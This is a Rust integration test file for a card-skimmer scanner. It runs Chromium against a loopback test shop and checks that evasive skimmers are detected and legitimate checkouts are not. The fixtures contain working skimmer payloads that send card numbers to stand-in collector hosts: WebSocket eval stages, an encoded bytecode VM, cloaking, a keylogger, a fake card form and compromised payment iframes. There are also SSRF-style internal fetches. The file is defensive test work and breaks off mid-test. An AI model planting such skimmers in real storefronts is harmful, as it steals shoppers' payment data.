//! The browser pass against real Chromium on loopback: skimmers written to defeat the static
//! engine (a WebSocket second stage, a bytecode VM, a cloaked one, a mobile-only one, a
//! tag-manager injection, a worker importing its helper, a keylogger, a delayed sender, a fake
//! form over a processor iframe, a skimmer inside a cross-origin card iframe, a phone-only one
//! there) must each be caught by the canary with the right host, while legitimate
//! checkouts (a processor iframe, an address lookup, analytics, a first-party checkout API,
//! session replay with masking) raise nothing — and no collector ever receives the canary.
//!
//! Every host is pinned with `--resolve` to a recording server on 127.0.0.1. One scan visits
//! all pages in parallel in one browser, to keep the file within a few minutes on 2 cores.

mod browser_support;
mod common;

use browser_support::{Recorder, canary_numbers, chromium_available, html, js, json, websocket};
use serde_json::Value;

const SHOP: &str = "northwind-outfitters.test";

/// A checkout page as a small shop renders it: order summary, contact and card fields, the
/// shop's own checkout script, then `extra` (the scenario's scripts).
fn checkout(title: &str, extra: &str) -> String {
    format!(
        r#"<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>{title} – Northwind Outfitters</title>
<meta name="viewport" content="width=device-width, initial-scale=1"></head>
<body>
<header><a href="/">Northwind Outfitters</a> <nav><a href="/cart">Cart (2)</a></nav></header>
<main>
<h1>Checkout</h1>
<section class="summary"><p>Trail jacket × 1 — $129.00</p><p>Wool socks × 2 — $24.00</p></section>
<form id="payment" action="/api/order" method="post">
  <label for="email">Email</label><input id="email" name="email" type="email" autocomplete="email">
  <label for="postcode">Postcode</label><input id="postcode" name="postcode" autocomplete="postal-code">
  <label for="cc-number">Card number</label><input id="cc-number" name="cc-number" autocomplete="cc-number" inputmode="numeric">
  <label for="cc-exp">Expiry (MM/YY)</label><input id="cc-exp" name="cc-exp" autocomplete="cc-exp">
  <label for="cc-csc">Security code</label><input id="cc-csc" name="cc-csc" autocomplete="cc-csc">
  <label for="cc-name">Name on card</label><input id="cc-name" name="cc-name" autocomplete="cc-name">
  <button type="submit">Pay $153.00</button>
</form>
</main>
<script src="/static/checkout.js"></script>
{extra}
</body></html>"#
    )
}

/// The shop's own checkout: sends the order to its API and shows a receipt (no navigation,
/// so delayed senders get their chance).
const CHECKOUT_JS: &str = r#"document.getElementById('payment').addEventListener('submit', function (e) {
  e.preventDefault();
  var body = {};
  new FormData(e.target).forEach(function (v, k) { body[k] = v; });
  fetch('/api/checkout', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: JSON.stringify(body)})
    .then(function () { document.querySelector('main').insertAdjacentHTML('beforeend', '<p>Thank you!</p>'); })
    .catch(function () { document.querySelector('main').insertAdjacentHTML('beforeend', '<p>Payment failed, try again.</p>'); });
});"#;

struct Shop {
    site: Recorder,
    evil: Recorder,
}

/// Every page of the test shop; `p(host)` builds a URL on the evil server.
fn build_shop() -> Shop {
    let site = browser_support::start("127.0.0.1");
    let evil = browser_support::start("127.0.0.1");
    let e = |host: &str, path: &str| evil.url(host, path);
    let s = |host: &str, path: &str| site.url(host, path);
    site.set("/static/checkout.js", js(CHECKOUT_JS));

    // 1. Second stage over a WebSocket: the loader holds no URL of a collector and no card
    // field name; the stage arrives as a message and is run.
    evil.set(
        "/socket",
        websocket(format!(
            "document.getElementById('payment').addEventListener('submit',function(){{var v=document.getElementById('cc-number').value;navigator.sendBeacon('{}',btoa('{{\"n\":\"'+v+'\",\"t\":'+Date.now()+'}}'));}},true);",
            e("collect.support-desk.test", "/b")
        )),
    );
    let ws_url = e("chat.support-desk.test", "/socket").replacen("http", "ws", 1);
    site.set(
        "/checkout/ws",
        html(checkout(
            "WebSocket stage",
            &format!(
                "<script>(function(){{var s=new WebSocket('{ws_url}');s.onmessage=function(m){{(0,eval)(m.data)}};}})();</script>"
            ),
        )),
    );

    // 2. A tiny bytecode VM: the program is numbers; the collector's URL and the field are
    // built at run time.
    let url = e("px.vm-cdn.test", "/p.gif?d=");
    let prog: Vec<String> = url
        .bytes()
        .map(|b| (u32::from(b) ^ 42).to_string())
        .collect();
    site.set(
        "/static/vendor-bundle.js",
        js(format!(
            "(function(){{var C=[{}];var M={{0:function(s){{s.push(C.map(function(c){{return String.fromCharCode(c^42)}}).join(''))}},1:function(s){{s.push(document.querySelector('[autocomplete=cc-'+'number]').value)}},2:function(s){{var v=s.pop();s.push(v.split('').map(function(c){{return c.charCodeAt(0).toString(16)}}).join(''))}},3:function(s){{var b=s.pop(),a=s.pop();s.push(a+b)}},4:function(s){{(new Image).src=s.pop()}}}};var P=[0,1,2,3,4];document.addEventListener('change',function(ev){{if(!/cc-n/.test(ev.target.id))return;var st=[];for(var i=0;i<P.length;i++)M[P[i]](st);}},true);}})();",
            prog.join(",")
        )),
    );
    site.set(
        "/checkout/vm",
        html(checkout(
            "VM",
            "<script src=\"/static/vendor-bundle.js\"></script>",
        )),
    );

    // 3. Cloaked: quiet for automation (webdriver, headless user agent, no plugins).
    site.set(
        "/checkout/cloaked",
        html(checkout(
            "Cloaked",
            &format!(
                "<script>(function(){{if(navigator.webdriver||/Headless/.test(navigator.userAgent)||navigator.plugins.length===0)return;document.getElementById('payment').addEventListener('submit',function(){{var v=document.getElementById('cc-number').value;fetch('{}',{{method:'POST',mode:'no-cors',body:JSON.stringify({{c:v}}).split('').reverse().join('')}})}},true)}})();</script>",
                e("c.cloak-metrics.test", "/r")
            ),
        )),
    );

    // 4. Mobile only: loads its stage for phones (touch and a mobile user agent) only.
    evil.set(
        "/t.js",
        js(format!(
            "document.getElementById('cc-number').addEventListener('blur',function(){{fetch('{}?v='+encodeURIComponent(this.value),{{mode:'no-cors'}})}});",
            e("m.cdn-metrics.test", "/m")
        )),
    );
    site.set(
        "/checkout/mobile",
        html(checkout(
            "Mobile",
            &format!(
                "<script>(function(){{if(!('ontouchstart' in window)&&navigator.maxTouchPoints<1)return;if(!/Android|iPhone|Mobile/.test(navigator.userAgent))return;var s=document.createElement('script');s.src='{}';document.body.appendChild(s)}})();</script>",
                e("m.cdn-metrics.test", "/t.js")
            ),
        )),
    );

    // 5. Injected from a tag-manager container (JSON fetched at run time).
    let tag = format!(
        "document.getElementById('payment').addEventListener('submit',function(){{var x=new XMLHttpRequest();x.open('POST','{}');x.send('d='+encodeURIComponent(JSON.stringify({{p:document.getElementById('cc-number').value}})))}},true);",
        e("collect.tagstats.test", "/t")
    );
    site.set(
        "/tm/container.json",
        json(
            serde_json::json!({"version": 41, "tags": [{"type": "html", "code": tag}]}).to_string(),
        ),
    );
    site.set(
        "/static/tm.js",
        js("fetch('/tm/container.json').then(function(r){return r.json()}).then(function(c){c.tags.forEach(function(t){var s=document.createElement('script');s.text=t.code;document.head.appendChild(s)})});"),
    );
    site.set(
        "/checkout/tagmanager",
        html(checkout(
            "Tag manager",
            "<script src=\"/static/tm.js\"></script>",
        )),
    );

    // 6. In a worker: the page hands the number to a blob: worker, which sends it reversed
    // with a helper it imports (`importScripts`) from the collector's host.
    evil.set("/rev.js", js(WORKER_HELPER));
    let worker = worker_source(
        &e("w.evil-cdn.test", "/rev.js"),
        &e("w.evil-cdn.test", "/w"),
    );
    site.set(
        "/checkout/worker",
        html(checkout(
            "Worker",
            &format!(
                "<script>(function(){{var w=new Worker(URL.createObjectURL(new Blob([{}],{{type:'text/javascript'}})));document.getElementById('cc-number').addEventListener('change',function(){{w.postMessage(this.value)}});}})();</script>",
                serde_json::to_string(&worker).unwrap()
            ),
        )),
    );

    // 7. A keylogger sending key by key.
    site.set(
        "/checkout/keylogger",
        html(checkout(
            "Keylogger",
            &format!(
                "<script>document.getElementById('cc-number').addEventListener('keyup',function(e){{(new Image).src='{}?c='+e.key+'&t='+Date.now()}});</script>",
                e("k.fontcdn.test", "/k")
            ),
        )),
    );

    // 8. A delayed sender: 4 s after the click.
    site.set(
        "/checkout/delayed",
        html(checkout(
            "Delayed",
            &format!(
                "<script>document.getElementById('payment').addEventListener('submit',function(){{var v=document.getElementById('cc-number').value;setTimeout(function(){{fetch('{}',{{method:'POST',mode:'no-cors',body:'pan='+encodeURIComponent(v.replace(/(\\d{{4}})/g,'$1 ').trim())}})}},4000)}},true);</script>",
                e("late.evil-analytics.test", "/l")
            ),
        )),
    );

    // 9. A fake form over a processor iframe: the real card iframe is hidden, a look-alike
    // form takes its place and sends the card JSON-escaped. (The processor is Razorpay:
    // Chromium's HSTS preload list covers stripe.com and most others, which would turn the
    // plain-HTTP test frame into an error page.)
    site.set(
        "/elements.html",
        html(format!(
            "<!doctype html><html><body><form id=\"card\"><input name=\"cardnumber\" autocomplete=\"cc-number\"><input name=\"exp-date\" autocomplete=\"cc-exp\"><input name=\"cvc\" autocomplete=\"cc-csc\"><button type=\"submit\">Pay</button></form><script>document.getElementById('card').addEventListener('submit',function(e){{e.preventDefault();fetch('{}',{{method:'POST',mode:'no-cors',body:'card[number]='+document.querySelector('[name=cardnumber]').value}})}});</script></body></html>",
            s("api.razorpay.com", "/v1/tokens")
        )),
    );
    let fake = format!(
        "<script>(function(){{var f=document.getElementById('card-element');f.style.display='none';f.insertAdjacentHTML('afterend','<form id=\"fake\"><input id=\"fake-number\" name=\"cardnumber\" placeholder=\"Card number\"><input name=\"exp-date\" placeholder=\"MM / YY\"><input name=\"cvc\" placeholder=\"CVC\"><button type=\"submit\">Pay now</button></form>');document.getElementById('fake').addEventListener('submit',function(e){{e.preventDefault();var v=document.getElementById('fake-number').value,j='';for(var i=0;i<v.length;i++)j+='\\\\u00'+v.charCodeAt(i).toString(16);fetch('{}',{{method:'POST',mode:'no-cors',body:'{{\"c\":\"'+j+'\"}}'}})}})}})();</script>",
        e("ff.evil-fonts.test", "/f")
    );
    site.set(
        "/checkout/fakeform",
        html(format!(
            "<!doctype html><html><head><meta charset=\"utf-8\"><title>Pay – Northwind Outfitters</title></head><body><h1>Payment</h1><div id=\"card-element\"><iframe src=\"{}\" title=\"Secure card payment input frame\"></iframe></div>{fake}</body></html>",
            s("checkout.razorpay.com", "/elements.html")
        )),
    );

    // 10. Inside a cross-origin card iframe (out of process): a compromised "payment frame"
    // on a third-party host reads its own fields and beacons them to a collector.
    evil.set(
        "/frame.html",
        html(format!(
            "<!doctype html><html><body><form id=\"card\"><input name=\"cardnumber\" autocomplete=\"cc-number\"><input name=\"exp-date\" autocomplete=\"cc-exp\"><input name=\"cvc\" autocomplete=\"cc-csc\"><button type=\"submit\">Pay</button></form><script>document.getElementById('card').addEventListener('submit',function(e){{e.preventDefault();navigator.sendBeacon('{}','d='+encodeURIComponent(JSON.stringify({{p:document.querySelector('[name=cardnumber]').value}})));document.body.insertAdjacentHTML('beforeend','<p>Processing…</p>')}});</script></body></html>",
            e("collect.frame-metrics.test", "/c")
        )),
    );
    site.set(
        "/checkout/iframeskim",
        html(format!(
            "<!doctype html><html><head><meta charset=\"utf-8\"><title>Pay – Northwind Outfitters</title></head><body><h1>Payment</h1><iframe src=\"{}\" title=\"Card payment\" width=\"400\" height=\"200\"></iframe></body></html>",
            e("pay.card-frames.test", "/frame.html")
        )),
    );

    // 11. The same, for phones only: the frame checks its own user agent and touch points,
    // which the page's emulation does not reach in an out-of-process frame.
    evil.set(
        "/mframe.html",
        html(format!(
            "<!doctype html><html><body><form id=\"card\"><input name=\"cardnumber\" autocomplete=\"cc-number\"><input name=\"exp-date\" autocomplete=\"cc-exp\"><input name=\"cvc\" autocomplete=\"cc-csc\"><button type=\"submit\">Pay</button></form><script>document.getElementById('card').addEventListener('submit',function(e){{e.preventDefault();if(!/Android/.test(navigator.userAgent)||navigator.maxTouchPoints<1)return;navigator.sendBeacon('{}',btoa(document.querySelector('[name=cardnumber]').value))}});</script></body></html>",
            e("m.frame-metrics.test", "/c")
        )),
    );
    site.set(
        "/checkout/mobileframe",
        html(format!(
            "<!doctype html><html><head><meta charset=\"utf-8\"><title>Pay – Northwind Outfitters</title></head><body><h1>Payment</h1><iframe src=\"{}\" title=\"Card payment\" width=\"300\" height=\"200\"></iframe></body></html>",
            e("pay.card-frames.test", "/mframe.html")
        )),
    );

    // Legitimate: a processor iframe receiving the card.
    site.set(
        "/checkout/processor",
        html(format!(
            "<!doctype html><html><head><meta charset=\"utf-8\"><title>Pay – Northwind Outfitters</title></head><body><h1>Payment</h1><div id=\"card-element\"><iframe src=\"{}\" title=\"Secure card payment input frame\"></iframe></div></body></html>",
            s("checkout.razorpay.com", "/elements.html")
        )),
    );
    // Legitimate: address lookup, analytics, the first-party checkout API, and session
    // replay that masks what is typed.
    site.set(
        "/checkout/legit",
        html(checkout(
            "Checkout",
            &format!(
                "<script>
document.getElementById('postcode').addEventListener('blur', function () {{ fetch('{lookup}?q=' + encodeURIComponent(this.value)); }});
navigator.sendBeacon('{stats}', JSON.stringify({{page: location.pathname, event: 'checkout_view'}}));
(function () {{
  var events = [];
  document.addEventListener('input', function (e) {{ events.push({{t: Date.now(), id: e.target.id, v: e.target.value.replace(/./g, '*')}}); }}, true);
  setInterval(function () {{ if (events.length) {{ fetch('{replay}', {{method: 'POST', body: JSON.stringify(events.splice(0))}}); }} }}, 300);
}})();
</script>",
                lookup = e("api.addressfinder.test", "/find"),
                stats = e("stats.analytics.test", "/collect"),
                replay = e("rec.replay.test", "/rec"),
            ),
        )),
    );
    Shop { site, evil }
}

const EVIL_HOSTS: &[&str] = &[
    "chat.support-desk.test",
    "collect.support-desk.test",
    "px.vm-cdn.test",
    "c.cloak-metrics.test",
    "m.cdn-metrics.test",
    "collect.tagstats.test",
    "w.evil-cdn.test",
    "k.fontcdn.test",
    "late.evil-analytics.test",
    "ff.evil-fonts.test",
    "api.addressfinder.test",
    "stats.analytics.test",
    "rec.replay.test",
    "pay.card-frames.test",
    "collect.frame-metrics.test",
    "m.frame-metrics.test",
];

/// What the worker skimmer imports: the reversing helper.
const WORKER_HELPER: &str = "function rev(s){return s.split('').reverse().join('')}";

/// The worker skimmer's own code (a blob: URL), which imports `helper`.
fn worker_source(helper: &str, collector: &str) -> String {
    format!(
        "importScripts('{helper}');onmessage=function(e){{fetch('{collector}?q='+rev(e.data),{{mode:'no-cors'}})}}"
    )
}

fn sha256_hex(bytes: &[u8]) -> String {
    use sha2::Digest as _;
    sha2::Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

fn pins(shop: &Shop) -> Vec<String> {
    let mut out = Vec::new();
    for h in [SHOP, "checkout.razorpay.com", "api.razorpay.com"] {
        out.push("--resolve".to_string());
        out.push(shop.site.resolve(h));
    }
    for h in EVIL_HOSTS {
        out.push("--resolve".to_string());
        out.push(shop.evil.resolve(h));
    }
    out
}

fn findings_for<'a>(report: &'a Value, page_suffix: &str, rule: &str) -> Vec<&'a Value> {
    report["findings"]
        .as_array()
        .map(|a| {
            a.iter()
                .filter(|f| {
                    f["rule"] == rule
                        && f["page"].as_str().is_some_and(|p| p.ends_with(page_suffix))
                })
                .collect()
        })
        .unwrap_or_default()
}

fn visits_for<'a>(report: &'a Value, page_suffix: &str) -> Vec<&'a Value> {
    report["browser"]
        .as_array()
        .map(|a| {
            a.iter()
                .filter(|v| v["page"].as_str().is_some_and(|p| p.ends_with(page_suffix)))
                .collect()
        })
        .unwrap_or_default()
}

/// No collector (nor any outside host) ever received the canary, in any form; and the shop's
/// order endpoint was never reached (the order was not placed).
fn assert_nothing_left(shop: &Shop) {
    for r in shop.evil.received() {
        let found = canary_numbers(&r.raw);
        assert!(
            found.is_empty(),
            "{} {} received the canary: {}",
            r.host,
            r.path,
            String::from_utf8_lossy(&r.raw)
        );
    }
    for r in shop.site.received() {
        if r.host != SHOP {
            assert!(
                canary_numbers(&r.raw).is_empty(),
                "{} got the canary",
                r.host
            );
        }
    }
    assert_eq!(shop.site.hits("/api/checkout"), 0, "the order was placed");
    assert_eq!(shop.site.hits("/api/order"), 0, "the order was placed");
    assert_eq!(
        shop.site.hits("/v1/tokens"),
        0,
        "the card reached the processor"
    );
}

#[test]
fn skimmers_are_caught_and_legitimate_checkouts_are_not() {
    if !chromium_available("skimmers_are_caught_and_legitimate_checkouts_are_not") {
        return;
    }
    let shop = build_shop();
    let pages = [
        "ws",
        "vm",
        "cloaked",
        "mobile",
        "tagmanager",
        "worker",
        "keylogger",
        "delayed",
        "fakeform",
        "iframeskim",
        "processor",
        "legit",
    ];
    let dir = tempfile::tempdir().unwrap();
    let har = dir.path().join("session.har");
    let mut args: Vec<String> = vec![
        "--browser".into(),
        "--har".into(),
        har.display().to_string(),
        "--depth".into(),
        "0".into(),
        "--concurrency".into(),
        "4".into(),
    ];
    args.extend(pins(&shop));
    for p in pages {
        args.push(shop.site.url(SHOP, &format!("/checkout/{p}")));
    }
    let argv: Vec<&str> = args.iter().map(String::as_str).collect();
    let (code, report, stderr) = common::scan_json(&argv);
    assert_eq!(code, 1, "{stderr}\n{report:#}");
    assert_eq!(report["errors"], serde_json::json!([]), "{report:#}");

    // Every visit reached the card fields and pressed pay: a quiet result means something.
    // The processor's and the compromised frame's card fields live in cross-origin iframes,
    // which Chromium runs out of process: the pass types into those in their own sessions.
    for p in pages {
        let v = visits_for(&report, &format!("/checkout/{p}"));
        assert_eq!(v.len(), 1, "{p}: {report:#}");
        let typed = v[0]["fields_typed"].as_array().map(Vec::len).unwrap_or(0);
        assert!(typed >= 3, "{p}: typed into {typed} fields: {:#}", v[0]);
        assert_eq!(v[0]["pressed_pay"], true, "{p}: {:#}", v[0]);
        assert_eq!(v[0]["complete"], true, "{p}: {:#}", v[0]);
    }

    for (page, host, encoding) in [
        ("ws", "collect.support-desk.test", "base64"),
        ("vm", "px.vm-cdn.test", "hex"),
        ("cloaked", "c.cloak-metrics.test", "reversed"),
        ("tagmanager", "collect.tagstats.test", "plain"),
        ("worker", "w.evil-cdn.test", "reversed"),
        ("keylogger", "k.fontcdn.test", "split across requests"),
        ("delayed", "late.evil-analytics.test", "separators removed"),
        ("fakeform", "ff.evil-fonts.test", "json-escaped"),
        ("iframeskim", "collect.frame-metrics.test", "plain"),
    ] {
        let f = findings_for(
            &report,
            &format!("/checkout/{page}"),
            "exfiltration-observed",
        );
        assert_eq!(f.len(), 1, "{page}: {report:#}");
        assert_eq!(f[0]["severity"], "critical");
        assert_eq!(
            f[0]["hosts"],
            serde_json::json!([host]),
            "{page}: {:#}",
            f[0]
        );
        let ev = f[0]["evidence"].as_str().unwrap_or("");
        assert!(ev.contains(encoding), "{page}: {ev}");
        assert!(
            ev.contains("[canary]") || !ev.contains("400000"),
            "{page}: unmasked {ev}"
        );
    }
    // The mobile-only skimmer stays quiet for a desktop visitor (the next test visits as a
    // phone); the legitimate checkouts raise nothing of the browser pass and nothing severe.
    for page in ["mobile", "processor", "legit"] {
        let suffix = format!("/checkout/{page}");
        for rule in ["exfiltration-observed", "browser-profile-difference"] {
            assert!(
                findings_for(&report, &suffix, rule).is_empty(),
                "{page}: {report:#}"
            );
        }
        // The static engine's findings are its own business: it rightly flags the mobile
        // skimmer's code, and it flags the masked session replay (a known false alarm of the
        // static taint analysis, left to the engine's owners). The processor page raises
        // nothing at all that is severe.
        if page == "processor" {
            let severe: Vec<&Value> = report["findings"]
                .as_array()
                .unwrap()
                .iter()
                .filter(|f| f["page"].as_str().is_some_and(|p| p.ends_with(&suffix)))
                .filter(|f| matches!(f["severity"].as_str(), Some("critical" | "high" | "medium")))
                .collect();
            assert!(severe.is_empty(), "{page}: {severe:#?}");
        }
    }
    // Where the card went legitimately is inventoried, not reported: the shop's own API, and
    // the processor, from inside its out-of-process iframe (whose request was held all the
    // same: `assert_nothing_left` checks the processor never got it).
    let legit = visits_for(&report, "/checkout/legit");
    assert_eq!(legit[0]["card_received_by"], serde_json::json!([SHOP]));
    let processor = visits_for(&report, "/checkout/processor");
    assert_eq!(
        processor[0]["card_received_by"],
        serde_json::json!(["api.razorpay.com"]),
        "{:#}",
        processor[0]
    );
    let typed_in_frame = processor[0]["fields_typed"].to_string();
    assert!(
        typed_in_frame.contains("(iframe http://checkout.razorpay.com"),
        "{typed_in_frame}"
    );
    // (The address lookup runs when a postcode is typed; the pass types card fields only.)
    let outside = legit[0]["outside_hosts"].to_string();
    for h in ["stats.analytics.test", "rec.replay.test"] {
        assert!(outside.contains(h), "{h} not in {outside}");
    }

    // Code the static pass never saw is in the inventory as `runtime`: the tag manager's
    // injected tag and the WebSocket's second stage.
    let runtime: Vec<&Value> = report["scripts"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|s| s["kind"] == "runtime")
        .collect();
    for (page, needle) in [
        ("tagmanager", "/checkout/tagmanager"),
        ("ws", "/checkout/ws"),
    ] {
        assert!(
            runtime
                .iter()
                .any(|s| s["page"].as_str().is_some_and(|p| p.ends_with(needle))
                    && s["sha256"].as_str().is_some_and(|h| h.len() == 64)),
            "{page}: no runtime script in {runtime:#?}"
        );
    }

    // A worker's code, and what it imports, are runtime rows with their URL and hash: the
    // worker itself from its blob: URL, the helper from the collector's host.
    let on_worker_page = |s: &&&Value| {
        s["page"]
            .as_str()
            .is_some_and(|p| p.ends_with("/checkout/worker"))
    };
    let worker = worker_source(
        &shop.evil.url("w.evil-cdn.test", "/rev.js"),
        &shop.evil.url("w.evil-cdn.test", "/w"),
    );
    assert!(
        runtime.iter().filter(on_worker_page).any(|s| s["url"]
            .as_str()
            .is_some_and(|u| u.starts_with("blob:http://northwind-outfitters.test"))
            && s["sha256"] == sha256_hex(worker.as_bytes())),
        "no worker script in {runtime:#?}"
    );
    let imported = |report: &Value| {
        report["scripts"].as_array().is_some_and(|a| {
            a.iter().any(|s| {
                // `dynamic` when the static pass already followed the worker's
                // importScripts (engine v2 does), `runtime` when only the browser saw it.
                (s["kind"] == "runtime" || s["kind"] == "dynamic")
                    && s["page"]
                        .as_str()
                        .is_some_and(|p| p.ends_with("/checkout/worker"))
                    && s["url"] == shop.evil.url("w.evil-cdn.test", "/rev.js")
                    && s["sha256"] == sha256_hex(WORKER_HELPER.as_bytes())
            })
        })
    };
    assert!(
        imported(&report),
        "no imported worker script in {runtime:#?}"
    );
    // And the compromised frame's script, which the page's session never sees.
    assert!(
        runtime.iter().any(|s| s["page"]
            .as_str()
            .is_some_and(|p| p.ends_with("/checkout/iframeskim"))
            && s["url"] == shop.evil.url("pay.card-frames.test", "/frame.html")),
        "no iframe script in {runtime:#?}"
    );

    // The HAR file holds the sessions, with the canary masked.
    let text = std::fs::read_to_string(&har).unwrap();
    let doc: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(doc["log"]["version"], "1.2");
    assert_eq!(
        doc["log"]["pages"].as_array().map(Vec::len),
        Some(pages.len())
    );
    assert!(
        doc["log"]["entries"]
            .as_array()
            .is_some_and(|e| e.len() > pages.len())
    );
    assert!(text.contains("blocked (carried the canary)"));
    assert!(
        canary_numbers(text.as_bytes()).is_empty(),
        "the HAR holds the canary"
    );

    assert_nothing_left(&shop);
}

#[test]
fn a_mobile_only_skimmer_is_caught_as_a_phone_and_reported_as_cloaking() {
    if !chromium_available("a_mobile_only_skimmer_is_caught_as_a_phone_and_reported_as_cloaking") {
        return;
    }
    let shop = build_shop();
    let mut args: Vec<String> = vec![
        "--browser".into(),
        "--profile".into(),
        "desktop".into(),
        "--profile".into(),
        "mobile".into(),
        "--depth".into(),
        "0".into(),
        "--browser-wait".into(),
        "1".into(),
    ];
    args.extend(pins(&shop));
    args.push(shop.site.url(SHOP, "/checkout/mobile"));
    args.push(shop.site.url(SHOP, "/checkout/mobileframe"));
    let argv: Vec<&str> = args.iter().map(String::as_str).collect();
    let (code, report, stderr) = common::scan_json(&argv);
    assert_eq!(code, 1, "{stderr}\n{report:#}");
    // Inside an out-of-process card iframe too, the phone is a phone.
    let f = findings_for(&report, "/checkout/mobileframe", "exfiltration-observed");
    assert_eq!(f.len(), 1, "{report:#}");
    assert_eq!(f[0]["hosts"], serde_json::json!(["m.frame-metrics.test"]));
    let ev = f[0]["evidence"].as_str().unwrap_or("");
    assert!(
        ev.contains("profile mobile") && !ev.contains("desktop"),
        "{ev}"
    );
    let f = findings_for(&report, "/checkout/mobile", "exfiltration-observed");
    assert_eq!(f.len(), 1, "{report:#}");
    assert_eq!(f[0]["hosts"], serde_json::json!(["m.cdn-metrics.test"]));
    assert!(
        f[0]["evidence"]
            .as_str()
            .unwrap_or("")
            .contains("profile mobile")
    );
    let cloak = findings_for(&report, "/checkout/mobile", "browser-profile-difference");
    assert!(
        cloak
            .iter()
            .any(|c| c["hosts"] == serde_json::json!(["m.cdn-metrics.test"])
                && c["evidence"] == "profiles: mobile"),
        "{report:#}"
    );
    assert_nothing_left(&shop);
}

#[test]
fn contain_answers_outside_hosts_locally_and_the_collector_hears_nothing() {
    if !chromium_available("contain_answers_outside_hosts_locally_and_the_collector_hears_nothing")
    {
        return;
    }
    let shop = build_shop();
    let mut args: Vec<String> = vec![
        "--browser".into(),
        "--contain".into(),
        "--depth".into(),
        "0".into(),
        "--browser-wait".into(),
        "1".into(),
    ];
    args.extend(pins(&shop));
    args.push(shop.site.url(SHOP, "/checkout/legit"));
    args.push(shop.site.url(SHOP, "/checkout/keylogger"));
    let argv: Vec<&str> = args.iter().map(String::as_str).collect();
    let (code, report, stderr) = common::scan_json(&argv);
    assert_eq!(code, 1, "{stderr}\n{report:#}");
    let f = findings_for(&report, "/checkout/keylogger", "exfiltration-observed");
    assert_eq!(f.len(), 1, "{report:#}");
    assert_eq!(f[0]["hosts"], serde_json::json!(["k.fontcdn.test"]));
    // Not one connection reached the outside hosts: no tip-off.
    assert!(
        shop.evil.received().is_empty(),
        "{:?}",
        shop.evil.received()
    );
    assert_nothing_left(&shop);
}

#[test]
fn a_page_cannot_steer_the_browser_into_the_scanner_network() {
    if !chromium_available("a_page_cannot_steer_the_browser_into_the_scanner_network") {
        return;
    }
    let shop = build_shop();
    // An "internal" service on another loopback address, not named by the user.
    let internal = browser_support::start("127.0.0.2");
    shop.site.set(
        "/checkout/ssrf",
        html(checkout(
            "SSRF",
            &format!(
                "<script>fetch('http://127.0.0.2:{}/admin',{{mode:'no-cors'}});fetch('http://intranet.corp.test:{}/x',{{mode:'no-cors'}})</script>",
                internal.port(),
                internal.port()
            ),
        )),
    );
    let mut args: Vec<String> = vec![
        "--browser".into(),
        "--depth".into(),
        "0".into(),
        "--browser-wait".into(),
        "0".into(),
        "--resolve".into(),
        shop.site.resolve(SHOP),
    ];
    args.push(shop.site.url(SHOP, "/checkout/ssrf"));
    let argv: Vec<&str> = args.iter().map(String::as_str).collect();
    let (code, report, stderr) = common::scan_json(&argv);
    assert_eq!(code, 3, "{stderr}\n{report:#}");
    let errors = report["errors"].to_string();
    assert!(errors.contains("address guard"), "{errors}");
    assert!(internal.received().is_empty(), "{:?}", internal.received());
}

#[test]
fn headers_and_cookie_reach_only_the_named_hosts() {
    if !chromium_available("headers_and_cookie_reach_only_the_named_hosts") {
        return;
    }
    let shop = build_shop();
    // An outside host the user did not name (an address, not a pinned name; --allow-private
    // lets the guard connect to it on loopback).
    shop.site.set(
        "/checkout/hdr",
        html(checkout(
            "Checkout",
            &format!(
                "<script>navigator.sendBeacon('http://127.0.0.1:{}/collect', 'view');fetch('http://127.0.0.1:{}/px',{{mode:'no-cors',credentials:'include'}})</script>",
                shop.evil.port(),
                shop.evil.port()
            ),
        )),
    );
    let mut args: Vec<String> = vec![
        "--browser".into(),
        "--allow-private".into(),
        "--depth".into(),
        "0".into(),
        "--browser-wait".into(),
        "0".into(),
        "--resolve".into(),
        shop.site.resolve(SHOP),
        "--header".into(),
        "X-Staging-Auth: letmein".into(),
        "--cookie".into(),
        "session=s3cr3t".into(),
    ];
    args.push(shop.site.url(SHOP, "/checkout/hdr"));
    let argv: Vec<&str> = args.iter().map(String::as_str).collect();
    let (_code, report, stderr) = common::scan_json(&argv);
    assert!(
        !shop.evil.received().is_empty(),
        "the outside host was never contacted"
    );
    let page_requests: Vec<String> = shop
        .site
        .received()
        .into_iter()
        .filter(|r| r.host == SHOP)
        .map(|r| String::from_utf8_lossy(&r.raw).into_owned())
        .collect();
    // The browser's own navigation (Upgrade-Insecure-Requests marks it; the fetcher does not
    // send that) carries them.
    let from_browser = with_header_and_cookie(&page_requests);
    assert!(
        from_browser >= 1,
        "{stderr}\n{report:#}\n{page_requests:#?}"
    );
    for r in shop.evil.received() {
        let t = String::from_utf8_lossy(&r.raw);
        assert!(
            !t.contains("letmein") && !t.contains("s3cr3t"),
            "{} got them: {t}",
            r.host
        );
    }
}

/// Browser navigations to the shop that carry both the header and the cookie.
fn with_header_and_cookie(requests: &[String]) -> usize {
    requests
        .iter()
        .filter(|r| {
            r.to_ascii_lowercase()
                .contains("upgrade-insecure-requests: 1")
        })
        .filter(|r| r.contains("letmein") && r.contains("session=s3cr3t"))
        .count()
}

#[test]
fn a_missing_or_broken_browser_is_never_a_clean_scan() {
    // No browser binary: exit 2 before anything is scanned (runs without Chromium too).
    let out = common::skimscan()
        .args([
            "scan",
            "--browser",
            "--chromium",
            "/nonexistent/chromium",
            "http://shop.test/",
        ])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("--chromium /nonexistent/chromium"), "{err}");
    let out = common::skimscan()
        .env("PATH", "/nonexistent")
        .args(["scan", "--browser", "http://shop.test/"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("no Chromium found"));
    // Browser options without --browser are a usage error.
    let out = common::skimscan()
        .args(["scan", "--contain", "http://shop.test/"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let out = common::skimscan()
        .args([
            "scan",
            "--browser",
            "--profile",
            "tablet",
            "http://shop.test/",
        ])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));

    // A "browser" that exits at once: the page is an errors[] entry, exit 3, not clean.
    let site = browser_support::start("127.0.0.1");
    site.set("/checkout", html(checkout("Checkout", "")));
